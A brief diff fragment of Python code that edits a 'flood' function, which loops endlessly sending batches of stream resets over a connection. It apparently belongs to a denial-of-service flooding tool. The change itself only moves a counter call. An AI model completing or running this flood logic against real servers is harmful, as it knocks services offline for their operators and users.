@@ -39,7 +39,7 @@ def flood(target, connection):
         connection.queue(single(connection))
     while True:
         connection.send(resets(connection, BATCH))
-        target.count("streams", BATCH)
+        connection.count("streams", BATCH)
 
 
 def single(connection):
